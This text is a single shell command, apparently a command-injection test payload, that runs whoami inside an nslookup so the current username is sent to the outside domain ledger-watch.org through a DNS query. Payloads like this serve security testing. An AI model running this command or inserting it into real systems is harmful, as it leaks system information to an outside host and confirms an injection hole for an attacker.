nslookup $(whoami).x.ledger-watch.org
